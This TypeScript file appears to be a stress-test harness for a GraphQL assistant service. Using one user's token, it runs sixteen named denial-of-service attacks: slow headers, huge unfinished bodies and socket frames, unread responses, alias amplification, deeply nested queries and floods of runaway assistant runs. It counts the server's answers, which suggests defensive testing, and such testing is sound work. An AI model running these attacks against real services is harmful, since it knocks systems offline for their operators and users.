import { setTimeout as delay } from 'node:timers/promises';
import { frame, frameHead, hold, postHead, socketHead } from './wire.ts';

/** What an attacker has: the address, and the session token of one end user with an assistant. */
export interface Foothold {
  url: string;
  token: string;
  assistantId: string;
  /** A thread of the end user with large messages. */
  threadId: string;
}

/** Counts what the server answered to one attack. */
export type Count = (outcome: string) => void;

/** Sends an operation as the end user and counts the outcome: a typename, an error code or an HTTP status. */
async function send({ url, token }: Foothold, count: Count, until: AbortSignal, query: string, variables = {}) {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  try {
    const body = JSON.stringify({ query, variables });
    const response = await fetch(`${url}/graphql`, { method: 'POST', headers, body, signal: until });
    const { data, errors } = JSON.parse(await response.text());
    const [field] = Object.values(data ?? {}) as Array<{ __typename?: string; run?: { id: string } } | null>;
    count(errors?.[0]?.extensions?.code ?? field?.__typename ?? String(response.status));
    return field;
  } catch (error) {
    if (!until.aborted) count((error as Error).name);
    return null;
  }
}

const ask = `mutation($assistantId: ID!, $text: String!) {
  createRun(input: { assistantId: $assistantId, thread: { messages: [{ text: $text }] } }) {
    __typename ... on CreateRunPayload { run { id } } } }`;
const wait = 'query($id: ID!) { waitForRun(id: $id, timeoutSeconds: 60) { __typename ... on Run { status } } }';

/** Runs whose model misbehaves, `width` at a time. */
const runs = (text: string, width: number) => async (has: Foothold, count: Count, until: AbortSignal) => {
  const loop = async () => {
    while (!until.aborted) {
      const made = await send(has, count, until, ask, { assistantId: has.assistantId, text });
      if (made?.run) await send(has, count, until, wait, { id: made.run.id });
      else await delay(1000);
    }
  };
  await Promise.all(Array.from({ length: width }, loop));
};

/** Connections that send bytes without an end, each opened again when the server closes it. */
const connections = (width: number, bytes: (has: Foothold) => Iterable<string | Buffer>) => {
  return async (has: Foothold, count: Count, until: AbortSignal) => {
    const loop = async () => {
      while (!until.aborted) {
        await hold(has.url, bytes(has), until);
        count('closed');
        await delay(100);
      }
    };
    await Promise.all(Array.from({ length: width }, loop));
  };
};

/** An operation again and again. */
const operations = (width: number, query: () => string) => async (has: Foothold, count: Count, until: AbortSignal) => {
  const loop = async () => {
    while (!until.aborted) {
      await send(has, count, until, query(), { id: has.threadId });
      await delay(20);
    }
  };
  await Promise.all(Array.from({ length: width }, loop));
};

const part = Buffer.alloc(790_000, 32);
const almost = (length: number) => Array.from({ length: Math.floor(length / part.length) - 1 }, () => part);
const aliases = (count: number) =>
  `query($id: ID!) { thread(id: $id) { messages(first: 40) { nodes { ${Array.from({ length: count }, (_, index) => `a${index}: text`).join(' ')} } } } }`;

/** A request whose answer the client never reads. */
const unread = ({ token, threadId }: Foothold) => {
  const body = JSON.stringify({ query: aliases(12), variables: { id: threadId } });
  return [`${postHead(Buffer.byteLength(body), `Bearer ${token}`)}${body}`];
};
/** Sixty queries over a socket that is never read. */
const unreadSocket = ({ token, threadId }: Foothold) => {
  const payload = { query: aliases(4), variables: { id: threadId } };
  const subscribe = Array.from({ length: 60 }, (_, index) => frame({ id: `${index}`, type: 'subscribe', payload }));
  const authorization = `Bearer ${token}`;
  return [socketHead, frame({ type: 'connection_init', payload: { authorization } }), ...subscribe];
};

/** All attacks, by name. */
export const attacks: Record<string, (has: Foothold, count: Count, until: AbortSignal) => Promise<void>> = {
  'endless answer': runs('endless-answer', 2),
  'endless silence': runs('endless-silence', 2),
  'one line of 50 MB': runs('one-line', 1),
  'error of 200 MB': runs('huge-error', 1),
  '10,000 calls': runs('many-calls', 1),
  'endless Python': runs('python', 6),
  'slow runs': runs('slow', 60),
  'anonymous bodies': connections(200, () => [postHead(7_900_000), ...almost(7_900_000)]),
  'bodies with a wrong key': connections(50, () => [postHead(7_900_000, 'Bearer ag_wrong'), ...almost(7_900_000)]),
  'anonymous frames': connections(200, () => [socketHead, frameHead(7_900_000), ...almost(7_900_000)]),
  'slow headers': connections(100, () => ['POST /graphql HTTP/1.1\r\nhost: x\r\nx-a: ']),
  '45 aliases of large texts': operations(2, () => aliases(45)),
  'unread answers': connections(10, unread),
  'unread socket': connections(1, unreadSocket),
  'deep documents': operations(2, () => `{ viewer(a: ${'['.repeat(4000)}${']'.repeat(4000)}) { __typename } }`),
  'wrong directives': operations(2, () => '{ models @stream(initialCount: -5) { id } }'),
};
